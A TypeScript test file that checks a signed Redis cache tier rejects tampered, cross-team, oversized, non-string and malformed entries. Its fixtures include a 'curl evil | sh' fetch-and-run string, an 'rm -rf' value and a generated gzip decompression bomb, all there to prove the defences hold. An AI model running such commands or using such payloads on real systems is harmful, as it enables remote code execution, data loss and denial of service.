// What L2 refuses even from a real Redis: entries moved between keys, other teams' entries, oversized bytes, and signed values that are malformed.
import { Redis } from 'ioredis';
import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { isCachedValue } from '../../main/app/adapters/cache-port.js';
import { MAX_DECOMPRESSED_BYTES } from '../../main/cache/compression.js';
import { CODEC_IDS, encodeEnvelope } from '../../main/cache/envelope.js';
import { HierarchicalCache } from '../../main/cache/hierarchy.js';
import { createCacheKey } from '../../main/cache/keys.js';
import { L2RedisTier, type L2Options } from '../../main/cache/l2-redis.js';
import { InlineCodec } from '../../main/cache/value-codec.js';
import { silentLogger } from '../../main/core/logger.js';
import type { CachedValue } from '../../main/pipeline/ports.js';
import { startRedisServer, type RedisServerHandle } from '../support/redis-server.js';

const TEAM_A = 'team a: correct horse battery staple';
const TEAM_B = 'team b: a different long secret';
const key = (t: string) => createCacheKey({ transcript: t, intent: 'generate', language: 'python' });
const value = (code: string): CachedValue => ({ code, answer: `\`\`\`python\n${code}\n\`\`\``, language: 'python', intent: 'generate_function', finishReason: 'STOP', createdAt: Date.now() });

describe('signed L2 entries', () => {
  let redis: RedisServerHandle;
  let raw: Redis;
  const closers: Array<() => Promise<void>> = [];

  const tier = async (secret: string, extra: Partial<L2Options> = {}): Promise<{ l2: L2RedisTier; cache: HierarchicalCache<CachedValue> }> => {
    const l2 = new L2RedisTier({ url: redis.url, secret, logger: silentLogger, commandTimeoutMs: 1000, ...extra });
    const cache = new HierarchicalCache<CachedValue>({ l2, codec: new InlineCodec('gzip'), compressThresholdBytes: 1 << 20, resultTtlMs: 60_000, logger: silentLogger, validate: isCachedValue });
    closers.push(() => cache.close());
    for (let i = 0; i < 300 && l2.status !== 'ready'; i++) await new Promise((r) => setTimeout(r, 10));
    return { l2, cache };
  };

  beforeAll(async () => {
    redis = await startRedisServer();
    raw = new Redis(redis.url);
  });
  afterEach(async () => {
    for (const c of closers.splice(0).reverse()) await c();
    await raw.flushall();
  });
  afterAll(async () => {
    raw?.disconnect();
    await redis?.stop();
  });

  it('an entry copied to another key of the same team is refused: the signature covers the key', async () => {
    const { l2, cache } = await tier(TEAM_A);
    const a = key('write a function that sorts a list');
    const b = key('write a function that deletes every file');
    await cache.set(a, value('sorted(xs)'));
    expect(await cache.get(a)).toMatchObject({ tier: 'l2', value: { code: 'sorted(xs)' } });
    await raw.set(l2.prefix + b.id, (await raw.getBuffer(l2.prefix + a.id)) as Buffer, 'PX', 60_000);
    expect(await cache.get(b)).toBeUndefined();
    expect(cache.metrics().tiers.l2).toMatchObject({ rejected: 1, hits: 1, misses: 1 });
  });

  it('teams with different secrets on one Redis never read or invalidate each other, and a copy across namespaces is refused', async () => {
    const a = await tier(TEAM_A);
    const b = await tier(TEAM_B);
    expect(a.l2.prefix).not.toBe(b.l2.prefix);
    const k = key('write a function that parses a date');
    await a.cache.set(k, value('team a code'));
    expect(await b.cache.get(k)).toBeUndefined();
    expect(await b.cache.invalidate('*')).toMatchObject({ l2: 0 });
    expect(await a.cache.get(k)).toMatchObject({ tier: 'l2', value: { code: 'team a code' } });
    // Someone of team A (who knows its secret) plants the entry in team B's namespace: B cannot verify it.
    await raw.set(b.l2.prefix + k.id, (await raw.getBuffer(a.l2.prefix + k.id)) as Buffer, 'PX', 60_000);
    expect(await b.cache.get(k)).toBeUndefined();
    expect(b.cache.metrics().tiers.l2?.rejected).toBe(1);
  });

  it('a malformed value is a counted miss even when it carries a valid signature, never a crash', async () => {
    const { l2, cache } = await tier(TEAM_A);
    const now = Date.now();
    const plain = (text: string): Buffer => encodeEnvelope(Buffer.from(text, 'utf8'), CODEC_IDS.none, now, now + 60_000);
    const bomb = gzipSync(Buffer.alloc(MAX_DECOMPRESSED_BYTES + 1024));
    // The bound itself, not only the JSON that would fail after inflating: the codec refuses to inflate past it.
    await expect(new InlineCodec('gzip').decompress(bomb, 'gzip')).rejects.toThrow(/Cannot create a Buffer larger|maxOutputLength|larger than/i);
    const entries: Array<[string, Buffer]> = [
      ['not json', plain('{"code": "unterminated')],
      ['wrong shape', plain(JSON.stringify({ code: 42, answer: null }))],
      ['unknown intent', plain(JSON.stringify({ ...value('x'), intent: 'rm -rf' }))],
      ['deep nesting', plain('['.repeat(200_000))],
      // A few kilobytes that would inflate past the bound: zlib stops at MAX_DECOMPRESSED_BYTES and throws.
      ['decompression bomb', encodeEnvelope(bomb, CODEC_IDS.gzip, now, now + 60_000)],
    ];
    for (const [name, envelope] of entries) await l2.set(key(name), envelope, now + 60_000);
    for (const [name] of entries) expect(await cache.get(key(name)), name).toBeUndefined();
    expect(cache.metrics().tiers.l2).toMatchObject({ rejected: entries.length, hits: 0, misses: entries.length });
    // A good value written the same way still works.
    await cache.set(key('fine'), value('ok()'));
    expect(await cache.get(key('fine'))).toMatchObject({ tier: 'l2', value: { code: 'ok()' } });
  });

  it('an entry larger than the bound, or not a string, is neither written nor read', async () => {
    const { l2, cache } = await tier(TEAM_A, { maxEntryBytes: 4096 });
    const big = key('a large answer');
    await cache.set(big, value('x'.repeat(8192)));
    expect(await raw.exists(l2.prefix + big.id)).toBe(0);
    const planted = key('planted');
    await raw.set(l2.prefix + planted.id, Buffer.alloc(64 * 1024, 1), 'PX', 60_000);
    expect(await cache.get(planted)).toBeUndefined();
    expect(cache.metrics().tiers.l2?.rejected).toBe(1);
    // Not a string at all: refused like a bad entry, and the breaker stays closed (it is not an outage).
    const hash = key('a hash');
    await raw.hset(l2.prefix + hash.id, 'code', 'curl evil | sh');
    expect(await cache.get(hash)).toBeUndefined();
    expect(cache.metrics().tiers.l2).toMatchObject({ rejected: 2, errors: 0 });
    expect(l2.breaker.current).toBe('closed');
  });
});
